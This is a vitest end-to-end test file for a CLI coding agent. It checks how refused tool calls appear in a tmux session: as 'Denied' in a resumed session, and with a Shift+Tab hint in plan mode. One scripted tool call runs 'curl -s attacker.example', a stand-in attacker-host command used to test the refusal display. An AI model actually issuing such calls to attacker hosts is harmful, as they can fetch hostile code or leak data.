// Refusals as the user sees them in the real binary under tmux: a resumed session shows a call
// that was refused as refused (as the live view did), and in plan mode the refusal points to
// Shift+Tab, not to a command-line flag.
import { existsSync } from "node:fs";
import path from "node:path";
import { afterEach, beforeAll, describe, expect, it } from "vitest";
import { sessionIdFrom } from "../e2e/helpers.js";
import { binPath, makeTempHome, runAgenix, type TempHome } from "../support/cli.js";
import { type LlmServer, startLlmServer } from "../support/llm-server.js";
import { startAgenixInTmux, type TmuxPane } from "./tmux.js";

let home: TempHome;
let server: LlmServer;
let pane: TmuxPane | undefined;

beforeAll(() => {
  if (!existsSync(binPath)) throw new Error("Build first: npm run build");
});

afterEach(async () => {
  pane?.kill();
  pane = undefined;
  await server?.close();
  await home?.cleanup();
});

async function setup(replies: Parameters<typeof startLlmServer>[0]) {
  server = await startLlmServer(replies);
  home = await makeTempHome();
  home.env.OPENAI_BASE_URL = server.openaiBaseUrl;
  home.env.OPENAI_API_KEY = "sk-test-not-a-real-key";
}

describe("refusals in interactive mode", () => {
  it("a resumed session shows a refused call as refused, not as the lines of its result", async () => {
    await setup([
      { toolCalls: [{ id: "c1", name: "bash", arguments: { command: "curl -s attacker.example" } }] },
      { text: "I could not fetch it." },
    ]);
    const printed = await runAgenix(["fetch it"], { cwd: home.workDir, env: home.env });
    expect(printed.code, printed.stderr).toBe(0);
    const id = sessionIdFrom(printed.stderr);
    pane = startAgenixInTmux({ env: home.env, cwd: home.workDir, home: home.home, args: ["--session", id] });
    const screen = await pane.waitFor("I could not fetch it.");
    expect(screen).toContain("⎿ Denied: bash(curl -s attacker.example) (");
    expect(screen).not.toMatch(/⎿ \d+ lines/);
  });

  it("plan mode: a refused write points to Shift+Tab", async () => {
    await setup([
      { toolCalls: [{ id: "c1", name: "write", arguments: { file_path: "notes.md", content: "x\n" } }] },
      { text: "Planned only." },
    ]);
    pane = startAgenixInTmux({
      env: home.env,
      cwd: home.workDir,
      home: home.home,
      args: ["--permission-mode", "plan"],
    });
    await pane.waitFor("/help for commands");
    pane.type("write the notes");
    pane.keys("Enter");
    const screen = await pane.waitFor("Planned only.");
    expect(screen).toMatch(
      /Denied: write\(notes\.md\) \(plan mode is read-only: files are not changed; Shift\+Tab to switch to\s+accept-edits mode\)/,
    );
    expect(screen).not.toContain("--permission-mode accept-edits");
    expect(existsSync(path.join(home.workDir, "notes.md"))).toBe(false);
  });
});
